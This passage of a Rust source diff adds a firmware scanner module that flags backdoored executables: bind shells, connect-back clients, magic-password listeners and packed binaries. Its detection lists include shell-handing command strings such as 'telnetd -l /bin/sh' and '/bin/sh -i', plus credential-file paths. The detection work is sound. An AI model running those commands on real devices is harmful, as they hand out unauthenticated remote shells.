@@ -1,0 +1,1565 @@
+//! Behaviour of every executable, from what the program can do rather than from a signature:
+//! a listener that hands out commands (`backdoor.bind-shell`), a connect-back client
+//! (`backdoor.connect-back`), a password prompt that never consults the account database
+//! (magic-string authentication bypass, `backdoor.suspicious`), hard-coded network
+//! indicators (`indicator.network`) and packed executables (`binary.packed`).
+//!
+//! Evidence comes from three places, whichever the binary has:
+//! - dynamic imports (`socket`, `bind`, `listen`, `accept`, `connect`, `dup2`, `execve`, ...),
+//!   read once by [`crate::elf::inspect`];
+//! - for static binaries, the system-call stubs: the number loaded into the syscall-number
+//!   register before the trap instruction (`li v0,N; syscall` on MIPS o32, `mov r7,#N; svc 0`
+//!   on ARM EABI, `mov x8,#N; svc #0` on AArch64, `mov eax,N; syscall` / `int 0x80` on x86).
+//!   A small linear register-constant tracker follows immediate moves, literal-pool loads,
+//!   register copies and additions, because compilers load a number once and reuse it
+//!   (no disassembler crate does this constant tracking across the five ISAs; decoding the
+//!   few instruction forms needed is short and bounded);
+//! - Go binaries: the package symbols kept in the pclntab even when stripped
+//!   (`net.Listen`, `net.Dial`, `os/exec.(*Cmd).Start`, `syscall.Dup2`).
+//!
+//! The strings (`/bin/sh`, a password prompt, `/etc/shadow`, URLs and addresses) are read in
+//! the same pass over the bytes. BusyBox is not skipped: it is identified by its banner and
+//! applet table, its applets' legitimate network and exec capabilities are discounted, and
+//! anything a BusyBox build does not contain (a hard-coded address or URL other than the
+//! project's, a connect-back pattern string) is reported.
+//!
+//! UPX-packed executables are recognised by the `UPX!` l_info header; they are flagged and
+//! NOT unpacked (the NRV/LZMA decoders are not implemented), so their behaviour is unknown
+//! and the finding says so. Other packed executables are recognised by the entropy of their
+//! executable segment.
+
+use crate::elf;
+use memchr::memmem;
+use netvet_model::{kinds, Finding, Severity};
+use object::read::elf::{FileHeader, ProgramHeader};
+use object::Endianness;
+use std::collections::{BTreeMap, BTreeSet};
+
+/// Bytes of executable code scanned for syscall stubs, per file.
+const MAX_CODE_SCAN: usize = 16 << 20;
+/// Bytes scanned for strings, per file.
+const MAX_STRING_SCAN: usize = 32 << 20;
+
+/// What a program can do, with the evidence for each capability.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Cap {
+    Socket,
+    Bind,
+    Listen,
+    Accept,
+    Connect,
+    /// dup2/dup3: redirecting a descriptor (a socket) onto stdio
+    Dup,
+    /// execve and friends, system, popen
+    Exec,
+    /// fork/clone + setsid or daemon(): detaches from the terminal
+    Daemon,
+    /// pcap or packet sockets: sees traffic not addressed to a listening port
+    RawCapture,
+    /// HTTP server package (Go net/http): a web service, not a shell listener
+    HttpServer,
+}
+
+impl Cap {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Cap::Socket => "socket",
+            Cap::Bind => "bind",
+            Cap::Listen => "listen",
+            Cap::Accept => "accept",
+            Cap::Connect => "connect",
+            Cap::Dup => "dup2",
+            Cap::Exec => "exec",
+            Cap::Daemon => "daemonise",
+            Cap::RawCapture => "raw capture",
+            Cap::HttpServer => "http server",
+        }
+    }
+}
+
+/// How the evidence was read.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Linkage {
+    Dynamic,
+    Static,
+    Go,
+}
+
+/// A BusyBox binary: version and applet count.
+#[derive(Debug, Clone, PartialEq)]
+pub struct BusyBox {
+    pub version: String,
+    pub applets: usize,
+    /// Applets that listen or hand out shells (`nc`, `telnetd`, `httpd`, ...), present.
+    pub network_applets: Vec<String>,
+}
+
+/// Behaviour profile of one executable.
+#[derive(Debug, Clone)]
+pub struct Profile {
+    pub path: String,
+    pub arch: String,
+    pub linkage: Linkage,
+    pub caps: BTreeMap<Cap, String>,
+    /// A shell path the program names (`/bin/sh`).
+    pub shell: Option<String>,
+    /// Authentication it can do: imports (`crypt`, `getspnam`, PAM) or account files it reads.
+    pub auth: Vec<String>,
+    /// A password / login prompt string.
+    pub prompt: Option<String>,
+    /// Literal commands that hand out a shell (`telnetd -l /bin/sh`, `/bin/sh -i`).
+    pub shell_commands: Vec<String>,
+    pub indicators: Vec<String>,
+    pub busybox: Option<BusyBox>,
+    /// Why the executable is considered packed.
+    pub packed: Option<String>,
+    /// Self-hiding signs (process renaming, deleting itself, anti-debugging).
+    pub hiding: Vec<String>,
+}
+
+impl Profile {
+    pub fn has(&self, c: Cap) -> bool {
+        self.caps.contains_key(&c)
+    }
+    /// Accepts connections: bind + (listen or accept), or a Go listener.
+    pub fn listens(&self) -> bool {
+        self.has(Cap::Listen) || (self.has(Cap::Bind) && self.has(Cap::Accept))
+    }
+    pub fn network(&self) -> bool {
+        self.listens() || self.has(Cap::Connect) || self.has(Cap::RawCapture)
+    }
+    fn ev(&self, caps: &[Cap]) -> String {
+        caps.iter()
+            .filter_map(|c| self.caps.get(c))
+            .cloned()
+            .collect::<Vec<_>>()
+            .join("; ")
+    }
+}
+
+/// The behaviour verdict on one executable, before boot context is added.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Verdict {
+    pub kind: &'static str,
+    pub severity: Severity,
+    pub title: String,
+    pub evidence: String,
+    pub key: String,
+}
+
+const AUTH_IMPORTS: &[&str] = &[
+    "crypt",
+    "crypt_r",
+    "getspnam",
+    "getspnam_r",
+    "getpwnam",
+    "getpwnam_r",
+    "pam_start",
+    "pam_authenticate",
+    "getpass",
+];
+const EXEC_IMPORTS: &[&str] = &[
+    "system",
+    "popen",
+    "execve",
+    "execl",
+    "execlp",
+    "execle",
+    "execv",
+    "execvp",
+    "execvpe",
+    "posix_spawn",
+    "posix_spawnp",
+];
+const SHELLS: &[&[u8]] = &[
+    b"/bin/sh\0",
+    b"/bin/ash\0",
+    b"/bin/bash\0",
+    b"/bin/busybox sh\0",
+];
+const SHELL_COMMANDS: &[&[u8]] = &[
+    b"telnetd -l /bin/sh",
+    b"telnetd -l/bin/sh",
+    b"telnetd -l /bin/ash",
+    b"-e /bin/sh",
+    b"-e /bin/ash",
+    b"/bin/sh -i",
+    b"/bin/busybox telnetd -l",
+];
+const PROMPTS: &[&[u8]] = &[b"Password:", b"password:", b"Password: ", b"login:"];
+const ACCOUNT_FILES: &[&[u8]] = &[b"/etc/shadow", b"/etc/passwd", b"/etc/login.defs"];
+/// Network applets of BusyBox whose presence explains socket/exec capabilities.
+const BUSYBOX_NETWORK_APPLETS: &[&str] = &[
+    "nc",
+    "telnetd",
+    "httpd",
+    "ftpd",
+    "tftpd",
+    "udhcpd",
+    "inetd",
+    "wget",
+    "ntpd",
+    "tcpsvd",
+    "udpsvd",
+    "ftpget",
+    "tftp",
+    "telnet",
+    "traceroute",
+    "ping",
+];
+/// Hosts that stock software names in help texts and banners; never indicators.
+const BENIGN_HOSTS: &[&str] = &[
+    "busybox.net",
+    "www.busybox.net",
+    "bugs.busybox.net",
+    "openssl.org",
+    "www.openssl.org",
+    "gnu.org",
+    "www.gnu.org",
+    "kernel.org",
+    "www.kernel.org",
+    "openwrt.org",
+    "www.openwrt.org",
+    "w3.org",
+    "www.w3.org",
+    "curl.se",
+    "curl.haxx.se",
+    "gcc.gnu.org",
+    "sourceware.org",
+    "bugs.debian.org",
+    "www.debian.org",
+    "ietf.org",
+    "www.ietf.org",
+    "tools.ietf.org",
+    "xmlsoap.org",
+    "schemas.xmlsoap.org",
+    "purl.org",
+    "upnp.org",
+    "schemas.upnp.org",
+    "www.upnp.org",
+    "dlna.org",
+    "mozilla.org",
+    "www.mozilla.org",
+    "github.com",
+    "sqlite.org",
+    "www.sqlite.org",
+    "zlib.net",
+    "www.zlib.net",
+    "libpng.org",
+    "www.libpng.org",
+    "json.org",
+    "samba.org",
+    "www.samba.org",
+    "isc.org",
+    "www.isc.org",
+    "dnsmasq",
+    "thekelleys.org.uk",
+    "www.thekelleys.org.uk",
+    "ntp.org",
+    "pool.ntp.org",
+    "openvpn.net",
+    "www.openvpn.net",
+    "lua.org",
+    "www.lua.org",
+    "apache.org",
+    "www.apache.org",
+    "xml.org",
+    "www.xml.org",
+    "localhost",
+];
+
+/// Profile one file, if it is an executable ELF (or shared object). `None` for anything
+/// else.
+pub fn profile(path: &str, data: &[u8]) -> Option<Profile> {
+    let h = elf::inspect(data).ok()?;
+    if !(h.elf_type.is_executable() || h.elf_type == elf::ElfType::Dso) || h.kernel_module {
+        return None;
+    }
+    let scan = &data[..data.len().min(MAX_STRING_SCAN)];
+    let go = memmem::find(scan, b"\xff Go buildinf:").is_some()
+        || (memmem::find(scan, b"runtime.main").is_some()
+            && memmem::find(scan, b"runtime.goexit").is_some());
+    let linkage = if go {
+        Linkage::Go
+    } else if h.imports.is_empty() && h.needed.is_empty() {
+        Linkage::Static
+    } else {
+        Linkage::Dynamic
+    };
+    let mut p = Profile {
+        path: path.to_string(),
+        arch: h.arch.clone(),
+        linkage,
+        caps: BTreeMap::new(),
+        shell: None,
+        auth: Vec::new(),
+        prompt: None,
+        shell_commands: Vec::new(),
+        indicators: Vec::new(),
+        busybox: None,
+        packed: None,
+        hiding: Vec::new(),
+    };
+    let has = |n: &str| h.imports.iter().any(|i| i == n);
+
+    // imports
+    let imp = |names: &[&str]| -> Option<String> {
+        let found: Vec<&str> = names.iter().copied().filter(|n| has(n)).collect();
+        (!found.is_empty()).then(|| format!("imports {}", found.join(", ")))
+    };
+    let import_caps: [(Cap, &[&str]); 9] = [
+        (Cap::Socket, &["socket"]),
+        (Cap::Bind, &["bind"]),
+        (Cap::Listen, &["listen"]),
+        (Cap::Accept, &["accept", "accept4"]),
+        (Cap::Connect, &["connect"]),
+        (Cap::Dup, &["dup2", "dup3"]),
+        (Cap::Exec, EXEC_IMPORTS),
+        (Cap::Daemon, &["daemon", "setsid"]),
+        (
+            Cap::RawCapture,
+            &["pcap_open_live", "pcap_loop", "pcap_next", "pcap_dispatch"],
+        ),
+    ];
+    for (cap, names) in import_caps {
+        if let Some(e) = imp(names) {
+            p.caps.insert(cap, e);
+        }
+    }
+    p.auth = AUTH_IMPORTS
+        .iter()
+        .filter(|n| has(n))
+        .map(|n| format!("imports {n}"))
+        .collect();
+    if has("prctl") {
+        p.hiding
+            .push("imports prctl (can rename its process)".into());
+    }
+    if has("ptrace") {
+        p.hiding.push("imports ptrace (anti-debugging)".into());
+    }
+
+    // static binaries: syscall stubs
+    if linkage == Linkage::Static {
+        for (cap, e) in syscall_caps(data) {
+            p.caps.entry(cap).or_insert(e);
+        }
+    }
+    // Go binaries: package symbols
+    if linkage == Linkage::Go {
+        let go_caps: [(Cap, &[&[u8]]); 6] = [
+            (
+                Cap::Listen,
+                &[b"net.(*TCPListener).Accept", b"net.(*ListenConfig).Listen"],
+            ),
+            (Cap::Connect, &[b"net.(*Dialer).DialContext", b"net.Dial\0"]),
+            (Cap::Exec, &[b"os/exec.(*Cmd).Start", b"syscall.Exec"]),
+            (Cap::Dup, &[b"syscall.Dup2", b"syscall.Dup3"]),
+            (Cap::HttpServer, &[b"net/http.(*Server).Serve"]),
+            (Cap::Daemon, &[b"syscall.Setsid"]),
+        ];
+        for (cap, pats) in go_caps {
+            if let Some(pat) = pats.iter().find(|pat| memmem::find(scan, pat).is_some()) {
+                let name = String::from_utf8_lossy(pat.strip_suffix(b"\0").unwrap_or(pat));
+                p.caps
+                    .entry(cap)
+                    .or_insert_with(|| format!("Go symbol {name}"));
+            }
+        }
+        if memmem::find(scan, b"golang.org/x/crypto/ssh").is_some()
+            || memmem::find(scan, b"crypto/subtle.ConstantTimeCompare").is_some()
+        {
+            p.auth.push("Go package crypto (ssh/subtle)".into());
+        }
+    }
+
+    // strings
+    p.shell = SHELLS.iter().find_map(|s| {
+        memmem::find(scan, s).map(|o| {
+            format!(
+                "\"{}\" at offset {o:#x}",
+                String::from_utf8_lossy(&s[..s.len() - 1])
+            )
+        })
+    });
+    for c in SHELL_COMMANDS {
+        if let Some(o) = memmem::find(scan, c) {
+            p.shell_commands.push(format!(
+                "\"{}\" at offset {o:#x}",
+                String::from_utf8_lossy(c)
+            ));
+        }
+    }
+    p.prompt = PROMPTS.iter().find_map(|s| {
+        memmem::find(scan, s)
+            .map(|o| format!("\"{}\" at offset {o:#x}", String::from_utf8_lossy(s).trim()))
+    });
+    for f in ACCOUNT_FILES {
+        if memmem::find(scan, f).is_some() {
+            p.auth.push(format!("reads {}", String::from_utf8_lossy(f)));
+        }
+    }
+    if memmem::find(scan, b"/proc/self/exe").is_some() && has("unlink") {
+        p.hiding
+            .push("names /proc/self/exe and imports unlink (can delete itself)".into());
+    }
+    p.indicators = indicators(scan);
+    p.busybox = busybox(scan);
+    if let Some(bb) = &p.busybox {
+        // BusyBox help texts and its own project URLs are not indicators
+        let _ = bb;
+        p.indicators.retain(|i| !i.contains("busybox"));
+    }
+    p.packed = packed(data);
+    Some(p)
+}
+
+/// The behaviour verdicts of one profile (possibly several, for example a bind shell that
+/// also carries a hard-coded address).
+pub fn judge(p: &Profile) -> Vec<Verdict> {
+    let mut out = Vec::new();
+    let name = p.path.rsplit('/').next().unwrap_or(&p.path).to_string();
+    let linkage = match p.linkage {
+        Linkage::Dynamic => "dynamic imports",
+        Linkage::Static => "static binary, syscall stubs",
+        Linkage::Go => "Go binary, package symbols",
+    };
+    // Go evidence is package-level (the program may use the packages for something
+    // else): one step lower
+    let strong = if p.linkage == Linkage::Go {
+        Severity::Medium
+    } else {
+        Severity::High
+    };
+    let execs_shell = p.has(Cap::Exec) && p.shell.is_some();
+    let hands_stdio = p.has(Cap::Dup) || p.linkage == Linkage::Go;
+    let no_auth = p.auth.is_empty();
+    let extra = {
+        let mut v = Vec::new();
+        if p.has(Cap::Daemon) {
+            v.push(format!("daemonises ({})", p.caps[&Cap::Daemon]));
+        }
+        v.extend(p.hiding.iter().cloned());
+        if v.is_empty() {
+            String::new()
+        } else {
+            format!("; also {}", v.join("; "))
+        }
+    };
+
+    if let Some(bb) = &p.busybox {
+        // BusyBox: the applets explain listener/exec capabilities. What a BusyBox build
+        // never carries is a hard-coded public address or foreign URL, or a connect-back
+        // command line: those mark a modified build.
+        let foreign: Vec<&String> = p.indicators.iter().collect();
+        if !foreign.is_empty() || !p.shell_commands.is_empty() {
+            let mut ev = vec![format!(
+                "BusyBox {} with {} applets",
+                bb.version, bb.applets
+            )];
+            if !foreign.is_empty() {
+                ev.push(format!(
+                    "hard-coded network indicators a BusyBox build does not contain: {}",
+                    foreign
+                        .iter()
+                        .map(|s| s.as_str())
+                        .collect::<Vec<_>>()
+                        .join(", ")
+                ));
+            }
+            if !p.shell_commands.is_empty() {
+                ev.push(format!(
+                    "embedded shell command lines: {}",
+                    p.shell_commands.join(", ")
+                ));
+            }
+            out.push(Verdict {
+                kind: kinds::BACKDOOR_SUSPICIOUS,
+                severity: Severity::Medium,
+                title: format!("{name}: BusyBox build that is not a stock build"),
+                evidence: ev.join("; "),
+                key: "busybox-modified".into(),
+            });
+        }
+        return out;
+    }
+
+    let prompt_without_accounts = p.listens() && execs_shell && p.prompt.is_some() && no_auth;
+    if prompt_without_accounts {
+        out.push(Verdict {
+            kind: kinds::BACKDOOR_SUSPICIOUS,
+            severity: strong,
+            title: format!(
+                "{name} asks for a password over the network but never checks an account database (magic-string authentication)"
+            ),
+            evidence: format!(
+                "{linkage}: listener ({}); command execution ({}); shell {}; prompt {}; no authentication import and no account file (crypt, getspnam, PAM, /etc/shadow, /etc/passwd){extra}",
+                p.ev(&[Cap::Socket, Cap::Bind, Cap::Listen, Cap::Accept]),
+                p.ev(&[Cap::Exec, Cap::Dup]),
+                p.shell.as_deref().unwrap_or("-"),
+                p.prompt.as_deref().unwrap_or("-"),
+            ),
+            key: "magic-auth".into(),
+        });
+    } else if p.listens() && execs_shell && hands_stdio && no_auth && !p.has(Cap::HttpServer) {
+        out.push(Verdict {
+            kind: kinds::BACKDOOR_BIND_SHELL,
+            severity: strong,
+            title: format!("{name} listens on the network and hands out a shell without authentication"),
+            evidence: format!(
+                "{linkage}: listener ({}); descriptor redirection and execution ({}); shell {}; no authentication import or account file{extra}",
+                p.ev(&[Cap::Socket, Cap::Bind, Cap::Listen, Cap::Accept]),
+                p.ev(&[Cap::Dup, Cap::Exec]),
+                p.shell.as_deref().unwrap_or("-"),
+            ),
+            key: "bind-shell".into(),
+        });
+    } else if p.has(Cap::Connect)
+        && !p.listens()
+        && execs_shell
+        && hands_stdio
+        && no_auth
+        && !p.has(Cap::HttpServer)
+    {
+        let ind = if p.indicators.is_empty() {
+            String::new()
+        } else {
+            format!("; hard-coded peers: {}", p.indicators.join(", "))
+        };
+        out.push(Verdict {
+            kind: kinds::BACKDOOR_CONNECT_BACK,
+            severity: strong,
+            title: format!("{name} connects out and hands the connection a shell (connect-back client)"),
+            evidence: format!(
+                "{linkage}: outgoing connection ({}); descriptor redirection and execution ({}); shell {}{ind}; no authentication{extra}",
+                p.ev(&[Cap::Socket, Cap::Connect]),
+                p.ev(&[Cap::Dup, Cap::Exec]),
+                p.shell.as_deref().unwrap_or("-"),
+            ),
+            key: "connect-back".into(),
+        });
+    } else if p.has(Cap::RawCapture) && p.has(Cap::Exec) && !p.listens() {
+        out.push(Verdict {
+            kind: kinds::BACKDOOR_SUSPICIOUS,
+            severity: Severity::Medium,
+            title: format!(
+                "{name} captures raw packets and executes commands (magic-packet listener pattern)"
+            ),
+            evidence: format!(
+                "{linkage}: raw capture ({}); command execution ({}); no listening socket{extra}",
+                p.ev(&[Cap::RawCapture]),
+                p.ev(&[Cap::Exec]),
+            ),
+            key: "magic-packet".into(),
+        });
+    }
+    if !p.indicators.is_empty() && p.network() {
+        let shown: Vec<&str> = p.indicators.iter().take(12).map(|s| s.as_str()).collect();
+        let more = p.indicators.len().saturating_sub(shown.len());
+        out.push(Verdict {
+            kind: kinds::INDICATOR_NETWORK,
+            severity: Severity::Info,
+            title: format!(
+                "{name} carries hard-coded network addresses ({}{})",
+                shown.iter().take(3).copied().collect::<Vec<_>>().join(", "),
+                if p.indicators.len() > 3 { ", ..." } else { "" }
+            ),
+            evidence: format!(
+                "{}{}; network capability: {}",
+                shown.join(", "),
+                if more > 0 {
+                    format!(" and {more} more")
+                } else {
+                    String::new()
+                },
+                p.ev(&[Cap::Listen, Cap::Connect, Cap::RawCapture])
+            ),
+            key: "indicators".into(),
+        });
+    }
+    if let Some(why) = &p.packed {
+        out.push(Verdict {
+            kind: kinds::BINARY_PACKED,
+            severity: Severity::Medium,
+            title: format!("{name} is packed; its behaviour cannot be read statically"),
+            evidence: why.clone(),
+            key: "packed".into(),
+        });
+    }
+    out
+}
+
+/// Turn a verdict into a finding for `path`, raised to critical when the program is started
+/// at boot (`boot` names where).
+pub fn finding(path: &str, v: &Verdict, boot: Option<&str>) -> Finding {
+    let (severity, evidence) = match boot {
+        Some(b)
+            if v.kind == kinds::BACKDOOR_BIND_SHELL || v.kind == kinds::BACKDOOR_CONNECT_BACK =>
+        {
+            let s = if v.severity == Severity::High {
+                Severity::Critical
+            } else {
+                Severity::High
+            };
+            (s, format!("{}; started at boot: {b}", v.evidence))
+        }
+        Some(b) if v.kind == kinds::BACKDOOR_SUSPICIOUS => {
+            (v.severity, format!("{}; started at boot: {b}", v.evidence))
+        }
+        _ => (v.severity, v.evidence.clone()),
+    };
+    let title = if boot.is_some() && v.kind.starts_with("backdoor.") {
+        format!("{} (started at boot)", v.title)
+    } else {
+        v.title.clone()
+    };
+    Finding::new(v.kind, severity, title, Some(path.to_string()), evidence).with_key(&v.key)
+}
+
+// ---------------------------------------------------------------------------------------
+// strings
+
+/// Hard-coded public IPv4 addresses, URLs and host names in the printable strings of `data`,
+/// sorted and unique (at most 64).
+pub fn indicators(data: &[u8]) -> Vec<String> {
+    let mut set = BTreeSet::new();
+    for s in printable_strings(data, 7) {
+        if set.len() >= 64 {
+            break;
+        }
+        for url in urls(s) {
+            set.insert(url);
+        }
+        for ip in ipv4s(s) {
+            set.insert(ip);
+        }
+        if let Some(h) = hostname(s) {
+            set.insert(h);
+        }
+    }
+    set.into_iter().collect()
+}
+
+/// Top-level domains a bare host name string is accepted with. A whole string that is a host
+/// name (`update.c2.example.net`) is an indicator; host names inside longer text are not
+/// (too many file names and symbols look like them).
+const TLDS: &[&str] = &[
+    "com", "net", "org", "info", "biz", "ru", "cn", "io", "xyz", "top", "cc", "tk", "pw", "su",
+    "ws", "me", "co", "online", "site", "club", "onion",
+];
+
+fn hostname(s: &str) -> Option<String> {
+    let s = s.trim();
+    let labels: Vec<&str> = s.split('.').collect();
+    if labels.len() < 2 || s.len() > 253 {
+        return None;
+    }
+    let ok = labels.iter().all(|l| {
+        !l.is_empty()
+            && l.len() <= 63
+            && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+            && !l.starts_with('-')
+    });
+    let tld = labels[labels.len() - 1].to_ascii_lowercase();
+    if !ok || !TLDS.contains(&tld.as_str()) || host_is_benign(s) {
+        return None;
+    }
+    // all-lowercase host names only: symbols and file names mix cases
+    if s.chars().any(|c| c.is_ascii_uppercase()) {
+        return None;
+    }
+    Some(s.to_string())
+}
+
+fn printable_strings(data: &[u8], min: usize) -> impl Iterator<Item = &str> {
+    data.split(|&b| !(0x20..0x7f).contains(&b))
+        .filter(move |s| s.len() >= min && s.len() <= 4096)
+        .filter_map(|s| std::str::from_utf8(s).ok())
+}
+
+fn host_is_benign(host: &str) -> bool {
+    let host = host.to_ascii_lowercase();
+    BENIGN_HOSTS
+        .iter()
+        .any(|b| host == *b || host.ends_with(&format!(".{b}")))
+        || host.starts_with("127.")
+        || host.starts_with('[')
+        || ipv4_private(&host)
+        || !host.contains('.')
+        || host.contains('%')
+        || host.contains('$')
+}
+
+fn urls(s: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for scheme in [
+        "http://", "https://", "ftp://", "tftp://", "tcp://", "udp://",
+    ] {
+        let mut from = 0;
+        while let Some(i) = s[from..].find(scheme) {
+            let start = from + i;
+            let rest = &s[start + scheme.len()..];
+            let end = rest
+                .find(|c: char| c.is_whitespace() || "\"'<>()`,;\\".contains(c))
+                .unwrap_or(rest.len());
+            let body = &rest[..end];
+            let host = body.split(['/', ':', '?']).next().unwrap_or("");
+            if !host.is_empty()
+                && host
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || ".-".contains(c))
+                && !host_is_benign(host)
+                && host.chars().any(|c| c.is_ascii_alphabetic() || c == '.')
+            {
+                out.push(format!("{scheme}{body}"));
+            }
+            from = start + scheme.len();
+        }
+    }
+    out
+}
+
+fn ipv4_private(s: &str) -> bool {
+    let o: Vec<u32> = s.split('.').filter_map(|x| x.parse().ok()).collect();
+    if o.len() != 4 {
+        return false;
+    }
+    matches!(
+        (o[0], o[1]),
+        (0, _) | (10, _) | (127, _) | (169, 254) | (192, 168) | (255, _)
+    ) || (o[0] == 172 && (16..32).contains(&o[1]))
+        || o[0] >= 224
+        || o[3] == 0
+        || o[3] == 255
+}
+
+/// Dotted quads that are public unicast addresses, not version numbers or masks.
+fn ipv4s(s: &str) -> Vec<String> {
+    let b = s.as_bytes();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() {
+        if !b[i].is_ascii_digit()
+            || (i > 0
+                && (b[i - 1].is_ascii_alphanumeric()
+                    || b[i - 1] == b'.'
+                    || b[i - 1] == b'-'
+                    || b[i - 1] == b'_'))
+        {
+            i += 1;
+            continue;
+        }
+        let mut j = i;
+        let mut parts = 0;
+        let mut ok = true;
+        loop {
+            let st = j;
+            while j < b.len() && b[j].is_ascii_digit() && j - st < 4 {
+                j += 1;
+            }
+            let n = &s[st..j];
+            if n.is_empty() || n.len() > 3 || (n.len() > 1 && n.starts_with('0')) {
+                ok = false;
+                break;
+            }
+            if n.parse::<u32>().map_or(true, |v| v > 255) {
+                ok = false;
+                break;
+            }
+            parts += 1;
+            if parts == 4 || j >= b.len() || b[j] != b'.' {
+                break;
+            }
+            j += 1;
+        }
+        let followed = j < b.len()
+            && (b[j].is_ascii_alphanumeric() || b[j] == b'.' || b[j] == b'-' || b[j] == b'_');
+        if ok && parts == 4 && !followed {
+            let ip = &s[i..j];
+            let first: u32 = ip
+                .split('.')
+                .next()
+                .and_then(|x| x.parse().ok())
+                .unwrap_or(0);
+            // version strings ("2.6.36.4", "1.0.2.3"): first octet below 10 with a small
+            // second octet are far more often versions than addresses
+            let second: u32 = ip
+                .split('.')
+                .nth(1)
+                .and_then(|x| x.parse().ok())
+                .unwrap_or(0);
+            let versionish = first < 10 && second < 10 && ip != "8.8.8.8" && ip != "8.8.4.4";
+            if !ipv4_private(ip) && !versionish {
+                out.push(ip.to_string());
+            }
+        }
+        i = j.max(i + 1);
+    }
+    out
+}
+
+/// Identify a BusyBox binary: banner version and the size of the applet table (the
+/// NUL-separated, sorted applet names that start with `[\0[[\0`).
+pub fn busybox(data: &[u8]) -> Option<BusyBox> {
+    let at = memmem::find(data, b"BusyBox v")?;
+    let tail = &data[at + 9..data.len().min(at + 9 + 40)];
+    let version: String = tail
+        .iter()
+        .take_while(|&&b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-' || b == b'_')
+        .map(|&b| b as char)
+        .collect();
+    if version.is_empty() || !version.as_bytes()[0].is_ascii_digit() {
+        return None;
+    }
+    let mut applets = 0;
+    let mut network = Vec::new();
+    if let Some(t) = memmem::find(data, b"[\0[[\0") {
+        for name in data[t..].split(|&b| b == 0).take(2000) {
+            if name.is_empty()
+                || !name
+                    .iter()
+                    .all(|&b| b.is_ascii_alphanumeric() || b"[-_.".contains(&b))
+            {
+                break;
+            }
+            applets += 1;
+            if let Ok(n) = std::str::from_utf8(name) {
+                if BUSYBOX_NETWORK_APPLETS.contains(&n) {
+                    network.push(n.to_string());
+                }
+            }
+        }
+    }
+    Some(BusyBox {
+        version,
+        applets,
+        network_applets: network,
+    })
+}
+
+// ---------------------------------------------------------------------------------------
+// packing
+
+/// Why `data` looks packed: a UPX header, or an executable segment of near-random bytes.
+pub fn packed(data: &[u8]) -> Option<String> {
+    // UPX: l_info {u32 checksum; "UPX!"; u16 lsize; u8 version; u8 format} right after the
+    // program headers, followed by p_info {u32 progid; u32 filesize; u32 blocksize}; the
+    // same magic again in the PackHeader near the end of the file.
+    let head = &data[..data.len().min(0x1000)];
+    if let Some(o) = memmem::find(head, b"UPX!") {
+        let version = data.get(o + 6).copied().unwrap_or(0);
+        let format = data.get(o + 7).copied().unwrap_or(0);
+        // p_info is written in the target's byte order
+        let big = data.get(5) == Some(&2);
+        let fs = data
+            .get(o + 12..o + 16)
+            .map(|b| {
+                let w = [b[0], b[1], b[2], b[3]];
+                if big {
+                    u32::from_be_bytes(w)
+                } else {
+                    u32::from_le_bytes(w)
+                }
+            })
+            .unwrap_or(0);
+        let trailer = memmem::rfind(&data[data.len().saturating_sub(0x1000)..], b"UPX!").is_some();
+        return Some(format!(
+            "UPX l_info header at offset {o:#x} (version {version}, format {format}, unpacked size {fs} bytes{}); not unpacked, so the program's imports, syscalls and strings were not analysed",
+            if trailer { ", PackHeader trailer present" } else { "" }
+        ));
+    }
+    // entropy of the executable PT_LOAD segments
+    let (size, entropy) = exec_segment_entropy(data)?;
+    if size >= 8192 && entropy > 7.6 {
+        return Some(format!(
+            "executable segment of {size} bytes with entropy {entropy:.2} bits/byte (compiled code is below 7)"
+        ));
+    }
+    None
+}
+
+fn exec_segments(data: &[u8]) -> Vec<(u64, u64, u64)> {
+    fn of<E: FileHeader<Endian = Endianness>>(data: &[u8]) -> Vec<(u64, u64, u64)> {
+        let Ok(h) = E::parse(data) else {
+            return Vec::new();
+        };
+        let Ok(endian) = h.endian() else {
+            return Vec::new();
+        };
+        let Ok(phdrs) = h.program_headers(endian, data) else {
+            return Vec::new();
+        };
+        phdrs
+            .iter()
+            .filter(|ph| {
+                ph.p_type(endian) == object::elf::PT_LOAD
+                    && ph.p_flags(endian) & object::elf::PF_X != 0
+            })
+            .map(|ph| {
+                (
+                    ph.p_offset(endian).into(),
+                    ph.p_filesz(endian).into(),
+                    ph.p_vaddr(endian).into(),
+                )
+            })
+            .collect()
+    }
+    match data.get(4) {
+        Some(1) => of::<object::elf::FileHeader32<Endianness>>(data),
+        Some(2) => of::<object::elf::FileHeader64<Endianness>>(data),
+        _ => Vec::new(),
+    }
+}
+
+fn exec_segment_entropy(data: &[u8]) -> Option<(usize, f64)> {
+    let mut counts = [0u64; 256];
+    let mut n = 0usize;
+    for (off, size, _) in exec_segments(data) {
+        let start = off as usize;
+        let end = start.saturating_add(size as usize).min(data.len());
+        // skip the ELF and program headers that share the first segment
+        let start = start.max(0x200).min(end);
+        for &b in &data[start..end] {
+            counts[b as usize] += 1;
+        }
+        n += end - start;
+    }
+    if n == 0 {
+        return None;
+    }
+    let e = counts
+        .iter()
+        .filter(|&&c| c > 0)
+        .map(|&c| {
+            let p = c as f64 / n as f64;
+            -p * p.log2()
+        })
+        .sum();
+    Some((n, e))
+}
+
+// ---------------------------------------------------------------------------------------
+// syscall stubs
+
+/// System calls of interest: (name, capability).
+const SYSCALL_CAPS: &[(&str, Cap)] = &[
+    ("socket", Cap::Socket),
+    ("socketcall", Cap::Socket),
+    ("bind", Cap::Bind),
+    ("listen", Cap::Listen),
+    ("accept", Cap::Accept),
+    ("accept4", Cap::Accept),
+    ("connect", Cap::Connect),
+    ("dup2", Cap::Dup),
+    ("dup3", Cap::Dup),
+    ("execve", Cap::Exec),
+    ("setsid", Cap::Daemon),
+];
+
+/// Syscall numbers per architecture (from the kernel's syscall tables:
+/// arch/mips/kernel/syscalls/syscall_o32.tbl, arch/arm/tools/syscall.tbl,
+/// include/uapi/asm-generic/unistd.h, arch/x86/entry/syscalls/syscall_{64,32}.tbl).
+fn syscall_table(arch: Arch) -> &'static [(u32, &'static str)] {
+    match arch {
+        Arch::Mips => &[
+            (4183, "socket"),
+            (4169, "bind"),
